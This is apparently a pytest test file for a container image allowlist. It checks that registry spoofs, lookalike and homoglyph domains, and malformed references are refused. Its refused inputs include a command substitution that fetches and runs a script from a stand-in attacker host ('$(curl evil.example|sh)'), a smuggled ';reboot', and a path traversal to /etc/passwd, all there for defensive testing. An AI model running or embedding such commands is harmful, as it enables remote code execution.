"""The image allowlist: deny by default, full matches on the familiar form, named for the attack."""

from __future__ import annotations

import pytest

from siteclient.errors import ConfigError
from siteclient.policy.allowlist import Allowlist, Decision, pattern_problems

DIGEST = "sha256:" + "0123456789abcdef" * 4
CONSORTIUM = r"myconsortium/.*:.*"
ESCAPED_REGISTRY = r"registry\.example\.org/.*"
LOCAL = r"127\.0\.0\.1:5000/pht-test/[a-z0-9._-]+:[\w.-]+"
PINNED = r"myconsortium/avg@sha256:[0-9a-f]{64}"


def _site(*patterns: str) -> Allowlist:
    return Allowlist(patterns, site="site-a")


INVALID = "invalid image reference"
NO_MATCH = "(familiar form"

# (attack, patterns, reference, words of the reason)
REFUSED = [
    ("registry_spoof_other_registry", [CONSORTIUM], "evil.example/myconsortium/x:1", NO_MATCH),
    ("registry_spoof_localhost", [CONSORTIUM], "localhost/myconsortium/x:1", NO_MATCH),
    ("registry_spoof_port", [CONSORTIUM], "evil.example:443/myconsortium/x:1", NO_MATCH),
    ("registry_spoof_ipv6", [CONSORTIUM], "[::1]/myconsortium/x:1", NO_MATCH),
    ("hub_namespace_spoof", [ESCAPED_REGISTRY], "docker.io/registry.example.org/x:1", INVALID),
    (
        "lookalike_domain_against_escaped_dots",
        [ESCAPED_REGISTRY],
        "registryxexample.org/team/x",
        NO_MATCH,
    ),
    ("lookalike_dash_domain", [ESCAPED_REGISTRY], "registry-example.org/team/x:1", NO_MATCH),
    (
        "lookalike_suffix_domain",
        [ESCAPED_REGISTRY],
        "registry.example.org.evil.example/x:1",
        NO_MATCH,
    ),
    ("lookalike_prefix_domain", [ESCAPED_REGISTRY], "evilregistry.example.org/x:1", NO_MATCH),
    ("prefix_match_is_not_enough", [r"myconsortium/avg"], "myconsortium/avg-evil:1", NO_MATCH),
    (
        "pattern_without_tag_does_not_match_tagged_form",
        [r"myconsortium/avg"],
        "myconsortium/avg",
        NO_MATCH,
    ),
    ("trailing_newline", [CONSORTIUM], "myconsortium/avg:1.2\n", INVALID),
    ("trailing_nul", [CONSORTIUM], "myconsortium/avg:1.2\x00", INVALID),
    ("upper_case_namespace", [r"(?i)myconsortium/.*:.*"], "MyConsortium/avg:1", INVALID),
    ("cyrillic_lookalike", [r"myc.nsortium/.*:.*"], "myc\u043ensortium/avg:1", INVALID),
    ("fullwidth_lookalike", [r"myconsortium.avg:.*"], "myconsortium\uff0favg:1", INVALID),
    ("shell_metacharacters", [r"myconsortium/.*"], "myconsortium/avg:1;reboot", INVALID),
    ("command_substitution", [r".*"], "$(curl evil.example|sh)", INVALID),
    ("path_traversal", [r".*"], "../../etc/passwd", INVALID),
    ("empty_reference", [r".*"], "", INVALID),
    ("at_without_digest", [r"myconsortium/.*"], "myconsortium/avg@", INVALID),
    ("tag_only", [r".*"], ":latest", INVALID),
    (
        "wrong_digest_algorithm",
        [r"myconsortium/avg@.*"],
        "myconsortium/avg@sha512:" + "a" * 128,
        INVALID,
    ),
    ("port_out_of_range", [r"localhost:.*"], "localhost:99999/x:1", INVALID),
    ("localhost_without_slash_is_docker_hub", [r"localhost:5000/.*"], "localhost:5000", NO_MATCH),
    (
        "official_image_is_not_its_library_spelling",
        [r"library/ubuntu:.*"],
        "ubuntu:22.04",
        NO_MATCH,
    ),
    ("pinned_pattern_refuses_tag", [PINNED], "myconsortium/avg:1.2", NO_MATCH),
]


@pytest.mark.parametrize(
    ("patterns", "reference", "why"), [c[1:] for c in REFUSED], ids=[c[0] for c in REFUSED]
)
def test_allowlist_refuses(patterns: list[str], reference: str, why: str) -> None:
    decision = _site(*patterns).decide(reference, require_digest=False)
    assert not decision.allowed
    assert decision.matched is None
    assert why in decision.reason
    if why == NO_MATCH:
        assert decision.reason.endswith("matches no allowed pattern of site 'site-a'")


# (case, patterns, reference, familiar form matched)
ALLOWED = [
    ("consortium_tag", [CONSORTIUM], "myconsortium/avg:1.2", "myconsortium/avg:1.2"),
    ("explicit_docker_hub", [CONSORTIUM], "docker.io/myconsortium/avg:1.2", "myconsortium/avg:1.2"),
    ("legacy_docker_hub", [CONSORTIUM], "index.docker.io/myconsortium/avg:1", "myconsortium/avg:1"),
    ("implied_latest", [r"myconsortium/avg:latest"], "myconsortium/avg", "myconsortium/avg:latest"),
    ("official_image", [r"ubuntu:.*"], "docker.io/library/ubuntu", "ubuntu:latest"),
    ("local_registry", [LOCAL], "127.0.0.1:5000/pht-test/busybox:latest", None),
    ("escaped_registry", [ESCAPED_REGISTRY], "registry.example.org/team/avg:2", None),
    ("pinned", [PINNED], f"myconsortium/avg@{DIGEST}", None),
    ("tag_and_digest_with_wildcard", [CONSORTIUM], f"myconsortium/avg:1.2@{DIGEST}", None),
    ("second_pattern", [r"other/.*", CONSORTIUM], "myconsortium/avg:1", "myconsortium/avg:1"),
]


@pytest.mark.parametrize(
    ("patterns", "reference", "familiar"), [c[1:] for c in ALLOWED], ids=[c[0] for c in ALLOWED]
)
def test_allowlist_allows(patterns: list[str], reference: str, familiar: str | None) -> None:
    decision = _site(*patterns).decide(reference, require_digest=False)
    assert decision.allowed, decision.reason
    assert decision.ref is not None
    assert decision.ref.familiar() == (familiar or reference)
    assert decision.matched in patterns
    assert "allowed by pattern" in decision.reason


def test_allowlist_rejects_registry_spoof_with_actionable_reason() -> None:
    decision = _site(CONSORTIUM).decide("evil.example/myconsortium/x:1", require_digest=False)
    assert decision == Decision(
        allowed=False,
        reason="image 'evil.example/myconsortium/x:1' (familiar form) matches no allowed "
        "pattern of site 'site-a'",
        ref=decision.ref,
        matched=None,
    )
    assert decision.ref is not None and decision.ref.domain == "evil.example"


def test_reason_shows_the_familiar_form_that_was_matched() -> None:
    decision = _site(r"other/.*").decide("docker.io/myconsortium/x", require_digest=False)
    assert decision.reason == (
        "image 'docker.io/myconsortium/x' (familiar form 'myconsortium/x:latest') matches no "
        "allowed pattern of site 'site-a'"
    )


def test_unescaped_dot_admits_lookalike_domain_and_is_warned_about() -> None:
    """The site's own regex decides; an unescaped '.' is its author's mistake, flagged at load."""
    careless = _site(r"registry.example.org/.*")
    assert careless.decide("registryxexample.org/team/x:1", require_digest=False).allowed
    assert any("unescaped '.'" in warning for warning in careless.warnings)
    assert careless.decide("registry-example.org/team/x:1", require_digest=False).allowed
    careful = _site(ESCAPED_REGISTRY)
    assert not careful.decide("registryxexample.org/team/x:1", require_digest=False).allowed
    assert careful.decide("registry.example.org/team/x:1", require_digest=False).allowed
    assert careful.warnings == ()


@pytest.mark.parametrize("pattern", [r".*", r"[^/]+/myconsortium/.*", r".+:.+", r".*/pwn:.*"])
def test_pattern_admitting_any_registry_is_warned_about(pattern: str) -> None:
    assert any("any registry" in warning for warning in _site(pattern).warnings)


@pytest.mark.parametrize("pattern", [CONSORTIUM, ESCAPED_REGISTRY, LOCAL, PINNED, r"[.]x/.*"])
def test_careful_pattern_draws_no_warning(pattern: str) -> None:
    assert _site(pattern).warnings == ()


def test_empty_allowlist_runs_nothing() -> None:
    allowlist = _site()
    decision = allowlist.decide("myconsortium/avg:1", require_digest=False)
    assert not decision.allowed
    assert "allows no images" in decision.reason
    assert decision.ref is not None
    assert any("nothing runs" in warning for warning in allowlist.warnings)


def test_require_digest_refuses_tag_only_reference() -> None:
    decision = _site(r".*").decide("myconsortium/avg:1.2", require_digest=True)
    assert not decision.allowed
    assert "pinned by digest" in decision.reason
    assert "'myconsortium/avg@sha256:<digest>'" in decision.reason


def test_require_digest_refuses_implied_latest() -> None:
    assert not _site(r".*").decide("ubuntu", require_digest=True).allowed


def test_require_digest_allows_pinned_reference() -> None:
    decision = _site(PINNED).decide(f"myconsortium/avg@{DIGEST}", require_digest=True)
    assert decision.allowed
    assert decision.ref is not None and decision.ref.pull_ref().endswith(DIGEST)


def test_tag_and_digest_both_given_match_the_familiar_form_with_both() -> None:
    both = f"myconsortium/avg:1.2@{DIGEST}"
    exact = _site(rf"myconsortium/avg:1\.2@{DIGEST}")
    decision = exact.decide(both, require_digest=True)
    assert decision.allowed
    assert decision.ref is not None
    assert decision.ref.pull_ref() == f"docker.io/myconsortium/avg@{DIGEST}"  # the tag is ignored
    # A pattern for the tag alone does not cover the tag-and-digest form ...
    assert not _site(r"myconsortium/avg:1\.2").decide(both, require_digest=False).allowed
    # ... nor does a pattern for the digest alone.
    assert not _site(PINNED).decide(both, require_digest=False).allowed


def test_invalid_reference_reason_says_why() -> None:
    decision = _site(r".*").decide("myconsortium/\u0430vg:1", require_digest=False)
    assert not decision.allowed
    assert decision.ref is None
    assert "CYRILLIC SMALL LETTER A" in decision.reason


def test_invalid_pattern_is_refused_naming_it() -> None:
    with pytest.raises(ConfigError, match=r"pattern 'myconsortium/\(avg' is not a valid"):
        _site(r"myconsortium/(avg")


def test_every_bad_pattern_is_reported() -> None:
    problems = pattern_problems(["ok/.*", "(", "", 7, "[z-a]"])
    assert len(problems) == 4
    assert problems[0].startswith("allowed_images[1]: pattern '('")
    assert "allowed_images[2]: an empty pattern" in problems[1]
    assert "allowed_images[3]: expected a regular expression string, found int" in problems[2]
    assert problems[3].startswith("allowed_images[4]")


def test_decision_cannot_be_allowed_without_a_pattern() -> None:
    with pytest.raises(ValueError, match="matching pattern"):
        Decision(allowed=True, reason="x", ref=None, matched=None)
